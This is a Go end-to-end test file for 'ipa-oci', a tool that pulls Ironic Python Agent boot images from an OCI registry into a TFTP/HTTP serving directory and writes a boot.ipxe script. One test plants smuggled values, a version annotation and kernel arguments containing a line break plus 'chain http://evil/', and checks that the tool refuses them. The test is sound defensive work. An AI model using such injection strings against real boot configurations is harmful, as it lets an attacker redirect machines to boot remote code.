package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/ipa-oci/ipa-oci/internal/testenv"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"
)

// pullUmask077 runs `ipa-oci pull` as a shell with `umask 077` would (the strictest umask a
// root cron job or unit may have) and fails the test unless it exits 0.
func pullUmask077(t *testing.T, args ...string) string {
	t.Helper()
	cmd := exec.Command("/bin/sh", append([]string{"-c", `umask 077; exec "$0" "$@"`, ipaOCI, "pull"}, args...)...)
	cmd.Env = cleanEnv()
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("umask 077; ipa-oci pull %s: %v\nstdout: %s\nstderr: %s", strings.Join(args, " "), err, out.String(), errb.String())
	}
	return out.String()
}

// fetch gets url with curl (TFTP or HTTP) and returns the bytes, or fails the test.
func fetch(t *testing.T, url string) []byte {
	t.Helper()
	cmd := exec.Command("curl", "-sS", "--fail", "--max-time", "60", url)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Errorf("curl %s: %v: %s", url, err, strings.TrimSpace(errb.String()))
		return nil
	}
	return out.Bytes()
}

// TestE2EPXEServeUnprivileged pulls (as root, under umask 077) into the directory that a real
// tftpd-hpa (--secure, as nobody) and a real HTTP server (BusyBox httpd, as nobody) serve, and
// fetches the kernel, the initramfs, boot.ipxe and the summaries from both with curl,
// byte-exact: after the first pull, after an update, and after an up-to-date pull over files
// made private (as older releases left them). DIR is either created by the pull or made
// beforehand by the operator (install -d -m 0755).
func TestE2EPXEServeUnprivileged(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: tftpd-hpa chroots and both servers switch to user nobody; run the suite as root (CI does)")
	}
	t.Parallel()
	reg := startRegistry(t)
	for n, premade := range []bool{false, true} {
		name := map[bool]string{false: "DIR created by the pull", true: "DIR made by the operator"}[premade]
		t.Run(name, func(t *testing.T) {
			ref := reg.Host + "/" + e2eRepo + ":served-" + strconv.Itoa(n)
			dir := filepath.Join(t.TempDir(), "srv", "tftpboot")
			if premade {
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.Chmod(dir, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			var tftp, httpd *testenv.FileServer
			v1, v2 := amd64Files(t, uint64(110+10*n), 64<<10, 1<<20), amd64Files(t, uint64(111+10*n), 48<<10, 1536<<10)
			// Versions 1 and 2, then version 2 again after its files were made private, as older
			// releases left them under a strict umask: the up-to-date pull repairs the modes.
			for v, f := range []files{v1, v2, v2} {
				state := "updated"
				if v < 2 {
					push(t, ref, f, "--ipa-version", "v"+strconv.Itoa(v+1))
				} else {
					state = "up to date"
					if out, err := exec.Command("chmod", "-R", "go-rwx", filepath.Join(dir, ".ipa-oci")).CombinedOutput(); err != nil {
						t.Fatalf("chmod -R go-rwx: %v %s", err, out)
					}
				}
				d := headManifest(t, reg.Host, e2eRepo, "served-"+strconv.Itoa(n))
				out := pullUmask077(t, ref, "--dest", dir, "--plain-http", "--ipxe", "--kernel-arg", "ipa-api-url=http://192.0.2.1:6385")
				if out != state+" amd64 "+d+"\n" {
					t.Fatalf("pull %d printed %q, want %q", v+1, out, state+" amd64 "+d)
				}
				if tftp == nil {
					tftp, httpd = testenv.StartTFTPD(t, dir), testenv.StartHTTPD(t, dir)
				}
				script, err := os.ReadFile(filepath.Join(dir, "boot.ipxe"))
				if err != nil || !bytes.Contains(script, []byte("kernel ironic-python-agent.kernel initrd=ironic-python-agent.initramfs ipa-api-url=")) {
					t.Fatalf("boot.ipxe: %q, %v", script, err)
				}
				want := map[string][]byte{"ironic-python-agent.kernel": f.kernel, "ironic-python-agent.initramfs": f.initramfs, "boot.ipxe": script}
				for _, name := range []string{"SHA256SUMS", "ipa-oci.json"} {
					if want[name], err = os.ReadFile(filepath.Join(dir, name)); err != nil {
						t.Fatal(err)
					}
				}
				for name, w := range want {
					for _, url := range []string{"tftp://" + tftp.Addr + "/" + name, "http://" + httpd.Addr + "/" + name} {
						if got := fetch(t, url); got != nil && !bytes.Equal(got, w) {
							t.Errorf("pull %d: %s served %d bytes (sha256 %.12s), want %d (sha256 %.12s)", v+1, url, len(got), sha256hex(got), len(w), sha256hex(w))
						}
					}
				}
			}
		})
	}
}

// TestE2EPullIPXEInjection: no value a pull writes into boot.ipxe can add a line to it. An index
// whose version annotation holds a line break and `chain http://evil/`, and a --kernel-arg with
// one, are refused with a one-line error, and no boot.ipxe gets such a line.
func TestE2EPullIPXEInjection(t *testing.T) {
	t.Parallel()
	reg := startRegistry(t)
	clean := reg.Host + "/" + e2eRepo + ":clean"
	d := push(t, clean, amd64Files(t, 120, 16<<10, 32<<10), "--ipa-version", "10.1.0")
	var idx ocispec.Index
	getManifest(t, reg.Host, e2eRepo, d, &idx)
	evil := "10.1.0\nchain http://evil/"
	idx.Annotations[ocispec.AnnotationVersion] = evil
	b, err := json.Marshal(idx)
	if err != nil {
		t.Fatal(err)
	}
	raw := &rawRegistry{t: t, host: reg.Host, repo: e2eRepo}
	if code, body := raw.put("manifests/evil", ocispec.MediaTypeImageIndex, b); code != 201 {
		t.Fatalf("PUT index: %d %s", code, body)
	}
	evilRef := reg.Host + "/" + e2eRepo + ":evil"

	noChain := func(dir string) {
		t.Helper()
		script, err := os.ReadFile(filepath.Join(dir, "boot.ipxe"))
		if err != nil {
			return
		}
		for _, l := range strings.Split(string(script), "\n") {
			if strings.HasPrefix(strings.TrimSpace(l), "chain") {
				t.Errorf("boot.ipxe has the injected line %q:\n%s", l, script)
			}
		}
	}
	dir := t.TempDir()
	r := ipa(t, "pull", evilRef, "--dest", dir, "--ipxe", "--plain-http")
	wantFailure(t, r, 1, `ipa-oci: pull `+evilRef+`: index sha256:`+sha256hex(b)+`: annotation org.opencontainers.image.version "10.1.0\nchain http://evil/" contains a line break or another control character; refusing it (it would be written into boot.ipxe)`)
	noChain(dir)

	dir = t.TempDir()
	r = ipa(t, "pull", clean, "--dest", dir, "--ipxe", "--plain-http", "--kernel-arg", "console=ttyS0\nchain http://evil/")
	wantFailure(t, r, 1, `ipa-oci: pull `+clean+`: kernel argument "console=ttyS0\nchain http://evil/" contains a line break or another control character, which would add lines to boot.ipxe; give each argument on its own (--kernel-arg)`)
	noChain(dir)
	// And into a DIR that already serves the clean version (the up-to-date path rewrites boot.ipxe).
	mustOK(t, "pull", clean, "--dest", dir, "--ipxe", "--plain-http")
	r = ipa(t, "pull", clean, "--dest", dir, "--ipxe", "--plain-http", "--kernel-arg", "a\rchain http://evil/")
	if r.code != 1 {
		t.Errorf("pull with a carriage return in --kernel-arg: exit %d, want 1", r.code)
	}
	noChain(dir)
}

// TestE2EPullRepairsModifiedFile: a byte flipped in place in the served initramfs (size kept)
// is found by the next pull of the same tag, which says so on stderr, downloads the file again
// and prints "updated"; `--verify-local` on the repaired DIR hashes everything and finds it
// up to date.
func TestE2EPullRepairsModifiedFile(t *testing.T) {
	t.Parallel()
	reg := startRegistry(t)
	ref := reg.Host + "/" + e2eRepo + ":repair"
	f := amd64Files(t, 130, 32<<10, 512<<10)
	d := push(t, ref, f)
	dir := t.TempDir()
	mustOK(t, "pull", ref, "--dest", dir, "--plain-http")
	served := filepath.Join(dir, "ironic-python-agent.initramfs")
	h, err := os.OpenFile(served, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.WriteAt([]byte{f.initramfs[1000] ^ 0xff}, 1000); err != nil {
		t.Fatal(err)
	}
	h.Close()
	r := ipa(t, "pull", ref, "--dest", dir, "--plain-http")
	if r.code != 0 || r.stdout != "updated amd64 "+d+"\n" ||
		!strings.Contains(r.stderr, "files in DIR do not match their digests; downloading them again") ||
		!strings.Contains(r.stderr, "ironic-python-agent.initramfs: digest sha256:") {
		t.Errorf("pull over a modified initramfs: exit %d\nstdout: %s\nstderr: %s\nwant exit 0, \"updated amd64 %s\" and a warning naming the file", r.code, r.stdout, r.stderr, d)
	}
	assertServes(t, dir, f)
	sha256sumCheck(t, dir)
	if out := mustOK(t, "pull", ref, "--dest", dir, "--plain-http", "--verify-local"); out != "up to date amd64 "+d+"\n" {
		t.Errorf("pull --verify-local after the repair: %q", out)
	}
}
